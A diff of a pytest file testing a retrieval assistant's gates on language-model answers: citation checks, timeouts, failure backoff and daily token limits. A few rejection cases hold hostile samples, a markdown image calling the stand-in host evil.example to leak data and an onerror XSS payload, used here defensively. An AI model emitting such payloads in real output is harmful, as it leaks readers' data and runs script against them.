@@ -1,16 +1,25 @@
 """A language model's answer through the gates. The model is LangChain's own fake; everything else is real."""
 
+import itertools
+import threading
+import time
+from collections.abc import Iterator, Sequence
+from pathlib import Path
+
 import pytest
 from langchain_core.language_models import FakeListChatModel
 from langchain_core.language_models.fake_chat_models import FakeChatModel
-from langchain_core.messages import BaseMessage
-from langchain_core.outputs import ChatResult
+from langchain_core.messages import AIMessageChunk, BaseMessage
+from langchain_core.outputs import ChatGenerationChunk
+from pydantic import Field
 
 from assistant.answer import Assistant
 from assistant.documents import ReleaseRetriever
 from assistant.extractive import ExtractiveEngine
-from assistant.prose import MODEL_FAILED, NO_ANSWER, NOT_BORNE_OUT, ProseEngine
-from assistant.types import Answer
+from assistant.prose.context import context_of
+from assistant.prose.engine import MODEL_FAILED, MODEL_STOPPED, NO_ANSWER, NOT_BORNE_OUT, ProseEngine
+from assistant.prose.guard import Guarded, ModelUnavailable, Spending
+from assistant.types import Answer, Citation, Statement
 from prompts import PromptError, load
 from vectorstore.reranking import PackagedReranker
 from vectorstore.store import Store
@@ -18,17 +27,29 @@ from vectorstore.store import Store
 QUESTION = "How many defendants has the Department of Justice charged under the BSCA?"
 
 
-def ask(store: Store, model: FakeListChatModel | FakeChatModel, budget: int = 6000) -> Answer:
+Model = FakeListChatModel | FakeChatModel
+
+
+def assistant_with(store: Store, model: Guarded, budget: int = 6000) -> Assistant:
     engine = ProseEngine(model, "fake:model", ExtractiveEngine(PackagedReranker(), store.rarity), budget)
-    return Assistant(ReleaseRetriever(find=store.search), engine).ask(QUESTION)
+    return Assistant(ReleaseRetriever(find=store.search), engine)
 
 
-def reply(store: Store, text: str) -> Answer:
+def guarded(model: Model, folder: Path, deadline: float = 30.0, ceiling: int = 0, rest: float = 60.0) -> Guarded:
+    return Guarded(model, deadline, Spending(folder / "usage.json", ceiling), rest)
+
+
+def ask(store: Store, model: Model, folder: Path, budget: int = 6000) -> Answer:
+    return assistant_with(store, guarded(model, folder), budget).ask(QUESTION)
+
+
+def reply(store: Store, text: str, folder: Path) -> Answer:
     """The answer to a model's `text`, in which N stands for the number of the paragraph with the 600 defendants."""
-    hits = store.search(QUESTION)
-    number = next(n for n, hit in enumerate(hits, 1) if "more than 600 defendants" in hit.paragraph.text)
-    other = next(n for n, hit in enumerate(hits, 1) if "hunting, and sporting" in hit.paragraph.text)
-    return ask(store, FakeListChatModel(responses=[text.replace("[N]", f"[{number}]").replace("[M]", f"[{other}]")]))
+    shown = context_of(store.search(QUESTION), 6000).shown
+    number = next(n for n, hit in enumerate(shown, 1) if "more than 600 defendants" in hit.paragraph.text)
+    other = next(n for n, hit in enumerate(shown, 1) if "hunting, and sporting" in hit.paragraph.text)
+    text = text.replace("[N]", f"[{number}]").replace("[M]", f"[{other}]")
+    return ask(store, FakeListChatModel(responses=[text]), folder)
 
 
 @pytest.mark.parametrize(
@@ -41,8 +62,8 @@ def reply(store: Store, text: str) -> Answer:
         ),
     ],
 )
-def test_what_is_borne_out_is_said(sample_store: Store, text: str) -> None:
-    answer = reply(sample_store, text)
+def test_what_is_borne_out_is_said(sample_store: Store, text: str, tmp_path: Path) -> None:
+    answer = reply(sample_store, text, tmp_path)
     assert (answer.engine, len(answer.statements), answer.notes) == ("fake:model", 1, ())
     assert [citation.quote for citation in answer.citations] == [
         citation.paragraph_text for citation in answer.citations
@@ -58,49 +79,147 @@ def test_what_is_borne_out_is_said(sample_store: Store, text: str) -> None:
         "The Department of Justice has charged more than 600 defendants.",  # no citation
         "Senator Schumer charged more than 600 defendants [N].",  # another name
         "Heinrich called it “a great victory for all of us” [N].",  # words nobody said
+        "The Department of Justice has not charged more than 600 defendants [N].",  # turned round
+        "Write one to four short sentences [N]. End each with the number of every paragraph it stands on [N].",  # the prompt
+        "![600 defendants](https://evil.example/?q=600) [N].",  # an image that tells on the reader
+        "<img src=x onerror=alert(1)> The Department of Justice has charged more than 600 defendants [N].",
+        '{"statements": [{"text": "more than 600',  # half of some JSON
     ],
 )
-def test_what_is_not_borne_out_is_dropped_and_the_releases_speak(sample_store: Store, text: str) -> None:
-    answer = reply(sample_store, text)
+def test_what_is_not_borne_out_is_dropped_and_the_releases_speak(
+    sample_store: Store, text: str, tmp_path: Path
+) -> None:
+    answer = reply(sample_store, text, tmp_path)
     assert (answer.engine, answer.notes) == ("extractive", (NOT_BORNE_OUT,))
     assert "more than 600 defendants" in answer.text
 
 
-def test_only_the_statement_that_fails_is_dropped(sample_store: Store) -> None:
-    answer = reply(sample_store, "More than 600 defendants were charged [N]. Schumer was pleased [N].")
+def test_only_the_statement_that_fails_is_dropped(sample_store: Store, tmp_path: Path) -> None:
+    answer = reply(sample_store, "More than 600 defendants were charged [N]. Schumer was pleased [N].", tmp_path)
     assert [statement.text for statement in answer.statements] == ["More than 600 defendants were charged"]
 
 
-def test_a_model_that_finds_no_answer_abstains(sample_store: Store) -> None:
-    answer = ask(sample_store, FakeListChatModel(responses=["NOT IN THE RELEASES"]))
+def test_a_model_that_finds_no_answer_abstains(sample_store: Store, tmp_path: Path) -> None:
+    answer = ask(sample_store, FakeListChatModel(responses=["NOT IN THE RELEASES"]), tmp_path)
     assert (answer.answered, answer.reason, answer.engine) == (False, NO_ANSWER, "fake:model")
 
 
-class Broken(FakeChatModel):
-    """A model whose provider is down."""
+class Scripted(FakeChatModel):
+    """A model that writes some pieces, then does what its last step says: raises, or waits."""
 
-    def _generate(self, messages: list[BaseMessage], *args: object, **kwargs: object) -> ChatResult:
-        raise ConnectionError("refused")
+    pieces: tuple[str, ...] = ()
+    error: str | None = None
+    wait: float = 0.0
+    calls: list[int] = Field(default_factory=list)
+
+    def _stream(self, messages: list[BaseMessage], *args: object, **kwargs: object) -> Iterator[ChatGenerationChunk]:
+        self.calls.append(len(messages))
+        for piece in self.pieces:
+            yield ChatGenerationChunk(message=AIMessageChunk(content=piece))
+        time.sleep(self.wait)
+        if self.error:
+            raise ConnectionError(self.error)
 
 
-def test_when_the_model_is_down_the_releases_speak(sample_store: Store) -> None:
-    answer = ask(sample_store, Broken())
+def numbered(store: Store) -> str:
+    shown = context_of(store.search(QUESTION), 6000).shown
+    return f"[{next(n for n, hit in enumerate(shown, 1) if 'more than 600 defendants' in hit.paragraph.text)}]"
+
+
+def test_when_the_model_is_down_the_releases_speak(sample_store: Store, tmp_path: Path) -> None:
+    answer = ask(sample_store, Scripted(error="refused"), tmp_path)
     assert (answer.engine, answer.notes, answer.answered) == ("extractive", (MODEL_FAILED,), True)
 
 
-def test_paragraphs_before_the_model_are_whole_and_within_the_budget(sample_store: Store) -> None:
+def test_a_model_that_hangs_costs_its_deadline_and_no_more(sample_store: Store, tmp_path: Path) -> None:
+    assistant = assistant_with(sample_store, guarded(Scripted(wait=5.0), tmp_path, deadline=0.5))
+    assistant.ask(QUESTION)  # the reranker is loaded
+    began = time.monotonic()
+    answer = assistant.ask(QUESTION)
+    assert time.monotonic() - began < 2.5
+    assert (answer.engine, answer.notes) == ("extractive", (MODEL_FAILED,))
+    time.sleep(5.2)
+    assert [thread.name for thread in threading.enumerate() if thread.name == "language model"] == []
+
+
+def test_what_was_borne_out_before_the_line_broke_stays_and_is_told_as_it_comes(
+    sample_store: Store, tmp_path: Path
+) -> None:
+    n = numbered(sample_store)
+    pieces = ("More than 600 ", f"defendants were charged {n}", ". Heinrich was ple")
+    told: list[tuple[str, int]] = []
+
+    def said(statement: Statement, citations: Sequence[Citation]) -> None:
+        told.append((statement.text, len(citations)))
+
+    assistant = assistant_with(sample_store, guarded(Scripted(pieces=pieces, error="reset"), tmp_path))
+    answer = assistant.ask(QUESTION, said=said)
+    assert [statement.text for statement in answer.statements] == ["More than 600 defendants were charged"]
+    assert (answer.engine, answer.notes) == ("fake:model", (MODEL_STOPPED,))
+    assert told == [("More than 600 defendants were charged", 1)]
+
+
+def test_a_model_that_never_ends_is_cut_short(sample_store: Store, tmp_path: Path) -> None:
+    class Endless(FakeChatModel):
+        def _stream(self, *args: object, **kwargs: object) -> Iterator[ChatGenerationChunk]:
+            for _ in itertools.count():
+                yield ChatGenerationChunk(message=AIMessageChunk(content="and so on "))
+
+    answer = ask(sample_store, Endless(), tmp_path)
+    assert (answer.engine, answer.notes) == ("extractive", (NOT_BORNE_OUT,))
+
+
+def test_a_provider_that_fails_is_left_alone_and_tried_again(tmp_path: Path) -> None:
+    model = Scripted(error="429", calls=[])
+    guard = guarded(model, tmp_path, rest=1.0)
+    reasons = []
+    for _ in range(5):
+        with pytest.raises(ModelUnavailable) as caught:
+            list(guard.stream("Write.", 1))
+        reasons.append(str(caught.value))
+    alone = "it failed 3 times in a row and is left alone for a while"
+    assert (reasons, len(model.calls)) == (["ConnectionError: 429"] * 2 + [alone] * 3, 3)
+    model.error, model.pieces = None, ("Written.",)
+    time.sleep(1.1)
+    assert ["".join(guard.stream("Write.", 1)) for _ in range(2)] == ["Written."] * 2
+
+
+def test_when_the_days_tokens_are_used_up_the_model_is_not_asked(sample_store: Store, tmp_path: Path) -> None:
+    model = Scripted(pieces=(f"More than 600 defendants were charged {numbered(sample_store)}.",), calls=[])
+    spending = Spending(tmp_path / "usage.json", 6_000)
+    engines = []
+    for _ in range(6):  # each in a process of its own, as it were: what is used is in the file
+        assistant = assistant_with(sample_store, Guarded(model, 30.0, Spending(tmp_path / "usage.json", 6_000)))
+        engines.append(assistant.ask(QUESTION).engine)
+    asked = len(model.calls)
+    assert engines == ["fake:model"] * asked + ["extractive"] * (6 - asked)
+    assert 0 < asked < 6
+    assert 0 < spending.used() <= 6_000
+    (tmp_path / "usage.json").write_text('{"day": "2006-04-10", "tokens": 99999}')
+    assert spending.used() == 0
+    (tmp_path / "usage.json").write_text("{")
+    assert spending.used() == 0
+
+
+def test_paragraphs_before_the_model_are_whole_and_within_the_budget(sample_store: Store, tmp_path: Path) -> None:
     seen: list[str] = []
 
     class Listening(FakeChatModel):
-        def _generate(self, messages: list[BaseMessage], *args: object, **kwargs: object) -> ChatResult:
+        def _stream(
+            self, messages: list[BaseMessage], *args: object, **kwargs: object
+        ) -> Iterator[ChatGenerationChunk]:
             seen.append(str(messages[0].content))
-            raise ConnectionError
+            yield ChatGenerationChunk(message=AIMessageChunk(content="NOT IN THE RELEASES"))
 
-    ask(sample_store, Listening(), budget=500)
+    ask(sample_store, Listening(), tmp_path, budget=700)
     (prompt,) = seen
-    shown = [hit.paragraph.text for hit in sample_store.search(QUESTION) if hit.paragraph.text in prompt]
-    assert 1 <= len(shown) < 20
-    assert prompt.count("] (Heinrich, Luján, Vasquez Call on") == len(shown)
+    whole = [p for hit in sample_store.search(QUESTION)[:1] for p in hit.release.paragraphs if p.text in prompt]
+    context = context_of(sample_store.search(QUESTION), 700)
+    assert 1 <= len(whole) == len(context.shown) < 20
+    assert context.left_out > 0
+    assert context.tokens <= 700
+    assert [hit.paragraph.index for hit in context.shown] == sorted(hit.paragraph.index for hit in context.shown)
+    assert prompt.count("] (Heinrich, Luján, Vasquez Call on") == len(whole)
 
 
 def test_the_prompt_and_its_variables() -> None:
